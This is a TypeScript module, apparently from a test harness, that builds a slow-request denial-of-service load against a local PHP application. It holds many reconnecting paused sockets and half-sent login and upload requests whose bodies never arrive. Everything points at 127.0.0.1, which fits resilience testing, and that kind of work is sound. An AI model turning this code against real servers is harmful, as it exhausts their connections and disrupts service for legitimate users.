import { connect, type Socket } from 'node:net';

export interface AttackOptions {
  port: number;
  /** Number of simultaneous connections. */
  connections: number;
  /** Bytes that each connection sends when it is open. */
  bytes: string;
  /** If false, the connections never read, and cannot detect that they were closed. */
  readsAnswers?: boolean;
  /** Local address of the connections. */
  from?: string;
}

const reconnectDelayMs = 250;

/** Connections that send the same bytes and reconnect when the server closes them. */
export class Attack {
  readonly #options: AttackOptions;
  readonly #sockets = new Set<Socket>();
  #hasEnded = false;
  /** Number of closed connections. */
  closed = 0;

  constructor(options: AttackOptions) {
    this.#options = options;
    for (let index = 0; index < options.connections; index += 1) this.#open();
  }

  /** Number of open connections. */
  get open(): number {
    return [...this.#sockets].filter(({ readyState }) => readyState === 'open').length;
  }

  stop(): void {
    this.#hasEnded = true;
    for (const socket of this.#sockets) socket.destroy();
  }

  #open(): void {
    if (this.#hasEnded) return;
    const { port, bytes, readsAnswers = false, from = '127.0.0.1' } = this.#options;
    const socket = connect({ port, host: '127.0.0.1', localAddress: from });
    this.#sockets.add(socket);
    if (readsAnswers) socket.resume();
    else socket.pause();
    socket.on('error', () => {});
    socket.on('connect', () => socket.write(bytes));
    socket.on('close', () => {
      this.#sockets.delete(socket);
      this.closed += 1;
      setTimeout(() => this.#open(), reconnectDelayMs);
    });
  }
}

/** A sign-in whose body never arrives. */
export const slowBody = [
  'POST /api/login.php?run=login HTTP/1.1',
  'host: x',
  'content-type: application/json',
  'content-length: 200',
  '',
  '{',
].join('\r\n');

/** Returns an upload whose body never arrives. */
export const slowUpload = (cookie: string): string =>
  [
    'POST /api/transaction.php?run=upload_attachments HTTP/1.1',
    'host: x',
    `cookie: ${cookie}`,
    'content-type: multipart/form-data; boundary=b',
    'content-length: 2000000',
    '',
    '--b',
  ].join('\r\n');

/** Returns the request for a file. */
export const download = (path: string, cookie: string): string =>
  [`GET ${path} HTTP/1.1`, 'host: x', `cookie: ${cookie}`, '', ''].join('\r\n');
